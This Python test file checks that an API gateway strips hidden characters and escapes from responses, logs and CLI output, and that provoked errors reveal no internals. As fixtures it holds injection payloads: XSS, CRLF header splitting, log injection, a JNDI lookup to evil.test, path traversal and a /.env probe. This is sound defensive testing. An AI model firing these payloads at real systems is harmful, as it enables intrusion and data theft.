"""What leaves: to a browser, to a terminal, to a log, and to somebody who provokes errors."""

import json
import re
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import pytest
from structlog.testing import capture_logs
from typer.testing import CliRunner

from app import cli
from app.exchange.call import Exchange
from tests.fixtures.aid import Aid, row
from tests.fixtures.case import case
from tests.fixtures.far_side import Said
from tests.fixtures.live import CLOSE, HOST, Heard, Here, ask, bearer, lines, listening

UNSEEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
"""What a terminal obeys or a reader does not see."""
TRICKS = [
    "<script>alert(1)</script>",
    "\u202egnirts\u202c",
    "Si\u200bti\ufeff",
    "\x1b[31mmerah\x1b[0m\x07",
    "a\r\nset-cookie: b=1\r\n\r\nHTTP/1.1 200 OK",
    '"}\n{"level": "info", "event": "palsu"}',
    "\x9b2Jhapus",
    "${jndi:ldap://evil.test/a}",
]


def environment(aid: Aid, patch: pytest.MonkeyPatch) -> None:
    for name in ("database_url", "city", "public_url", "secrets", "keys"):
        patch.setenv(f"TITIAN_{name.upper()}", str(getattr(aid.town.settings, name)))


def titian(*words: str) -> str:
    return CliRunner().invoke(cli.app, list(words)).output


@case(
    "H39",
    sent="`<script>`, right-to-left override, zero width, ANSI escapes, line breaks in a source's data, a caller's parameters and a city's files",
    must="JSON with `nosniff`; nothing unseen in an answer, a header, a log line or on a terminal",
)
def test_what_a_source_writes_is_only_ever_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with ExitStack() as stack:
        aid = Aid(tmp_path, stack)
        side = aid.source("dinsos.orang", [row(number, nm=text, lahir=text) for number, text in enumerate(TRICKS, 1)])
        good = side.answer
        aid.town.client("dinsos-app", "dinsos")
        live = stack.enter_context(listening(aid.town))
        logged = stack.enter_context(capture_logs())
        token = bearer(live, "dinsos-app")
        heard = ask(live, lines(b"/v1/orang", HOST, CLOSE, token))
        assert (heard.status, heard.headers["content-type"], heard.headers["x-content-type-options"]) == (200, "application/json", "nosniff")
        assert [one["nama"] for one in heard.json["data"]][:4] == ["<script>alert(1)</script>", "gnirts", "Siti", "[31mmerah[0m"]
        assert all(not UNSEEN.search(one["nama"]) and "\n" not in one["nama"] for one in heard.json["data"])
        assert "set-cookie" not in heard.headers
        for text in TRICKS:
            written = "".join(f"%{byte:02x}" for byte in text.encode()).encode()
            for query in (b"fields=" + written, b"sort=" + written, written + b"=1", b"limit=" + written, b"id=" + written, b"cursor=" + written):
                heard = ask(live, lines(b"/v1/orang?" + query, HOST, CLOSE, token, b"X-Request-ID: <b>"))
                assert heard.headers["content-type"] in ("application/problem+json", "application/json")
                assert not UNSEEN.search(heard.body.decode())
                assert "set-cookie" not in heard.headers
            side.answer = lambda _asked, text=text: Said({"status": text}, 500, {"content-type": "text/html", "x-error": "x"})
            assert ask(live, lines(b"/v1/orang", HOST, CLOSE, token)).status == 502
            side.answer = good
        assert all("\n" not in json.dumps(one) and not UNSEEN.search(json.dumps(one)) for one in logged)
        assert not any(text[:9] in str(logged) for text in TRICKS)
    environment(aid, monkeypatch)
    said = titian("quarantine", "list")
    assert "lahir" in said
    assert not UNSEEN.search(said)
    path = aid.town.folder / "systems" / "dinsos.orang.toml"
    written = path.read_text()
    for text in TRICKS:
        for old, new in (
            ('kind = "rest"', f"kind = {json.dumps(text)}"),
            ("[connection]", f"[connection]\n{json.dumps(text)} = 1"),
            ('nama = "nm"', f"{json.dumps(text)} = 1"),
        ):
            path.write_text(written.replace(old, new))
            for said in (titian("check"), titian("check", "--json")):
                assert "dinsos.orang.toml" in said
                assert not UNSEEN.search(said), (new, said)


INSIDE = re.compile(
    r'Traceback|File "|\.py\b|site-packages|/tmp/|/app/|\bSELECT\b|\bINSERT\b|sqlite|sqlalchemy|aiohttp|uvicorn|0x[0-9a-f]{6}|127\.0\.0\.1:\d|Errno',
    re.IGNORECASE,
)


def crashing(_exchange: Exchange) -> Any:
    raise ValueError("SELECT nik FROM orang -- /app/secret.py")


def provoked(live: Here, aid: Aid, token: bytes) -> dict[str, Heard]:
    """Every kind of failure that can be had from outside, and some that need a broken machine."""

    def got(target: bytes, *more: bytes, method: bytes = b"GET", body: bytes = b"") -> Heard:
        return ask(live, lines(target, HOST, CLOSE, token, *more, method=method, body=body))

    def said(body: Any, status: int = 200) -> Heard:
        side.answer = lambda _asked: Said(body, status)
        return got(b"/v1/orang")

    side = aid.sides["dinsos.orang"]
    heard = {
        "parser": ask(live, b"GET / HTTP/9\r\n\r\n"),
        "path": got(b"/v1/orang/../x"),
        "question": got(b"/v1/orang?x=1"),
        "cursor": got(b"/v1/orang?cursor=AAAA"),
        "nobody": ask(live, lines(b"/v1/orang", HOST, CLOSE)),
        "token": ask(live, lines(b"/v1/orang", HOST, CLOSE, b"Authorization: Bearer x")),
        "login": ask(live, lines(b"/oauth/token", HOST, CLOSE, b"Authorization: Basic eDp5", method=b"POST")),
        "form": ask(live, lines(b"/oauth/token", HOST, CLOSE, b"Content-Type: multipart/form-data", b"Content-Length: 1", method=b"POST", body=b"x")),
        "forbidden": got(b"/v1/lain"),
        "address": got(b"/nothing"),
        "secret address": got(b"/.env"),
        "file": got(b"/docs/__init__.py"),
        "problem": got(b"/problems/nothing"),
        "contract": got(b"/contracts/nothing/v1"),
        "record": got(b"/v1/orang/9999"),
        "method": got(b"/v1/orang", method=b"DELETE"),
        "method of the frame": got(b"/healthz", method=b"PATCH"),
        "trace": got(b"/v1/orang", method=b"TRACE"),
        "media": got(b"/v1/orang:search", b"Content-Length: 2", method=b"POST", body=b"{}"),
        "large": got(b"/v1/orang:search", b"Content-Length: 99999999", method=b"POST"),
        "html": said(b"<html>Fatal error in /var/www/a.php on line 3: SELECT * FROM x</html>"),
        "broken": said(b'{"data": [{"nik": "1276010101909001"'),
        "source's error": said({"error": "ORA-00942 SELECT"}, 500),
        "refused": said(b"", 401),
    }
    with live.gateway.database.engine.begin() as connection:
        for table in ("ledger", "trust_revision"):
            connection.exec_driver_sql(f"ALTER TABLE {table} RENAME TO away_{table}")
    side.answer = lambda _asked: Said({"data": [row(1)]})
    heard["evidence"] = got(b"/v1/orang/0001")
    heard["not ready"] = ask(live, lines(b"/readyz", HOST, CLOSE))
    live.gateway.edition.table["/v1/orang"] = live.gateway.edition.table["/v1/orang"]._replace(call=crashing)
    heard["crash"] = got(b"/v1/orang")
    return heard


@case(
    "H41",
    sent="Every failure that can be provoked: by bytes, tokens, methods, sources, a crash in our own code, a database without its tables",
    must="Problems without a path, SQL, a class, a stack or an address; no `server` header anywhere",
)
def test_no_failure_tells_of_the_inside(tmp_path: Path) -> None:
    with ExitStack() as stack:
        aid = Aid(tmp_path, stack)
        aid.source("dinsos.orang", [row(1)])
        aid.town.client("dinsos-app", "dinsos")
        live = stack.enter_context(listening(aid.town))
        heard = provoked(live, aid, bearer(live, "dinsos-app"))
        assert {name for name, one in heard.items() if one.status < 400} == set()
        assert {one.status for one in heard.values()} >= {400, 401, 404, 405, 413, 415, 500, 502, 503}
        for name, one in heard.items():
            assert not INSIDE.search(one.body.decode()), (name, one.body)
            assert not {"server", "x-powered-by", "via"} & set(one.headers), name
        assert (heard["crash"].status, heard["crash"].json["code"]) == (500, "internal")
        assert (heard["evidence"].status, heard["evidence"].json["code"]) == (503, "unavailable")
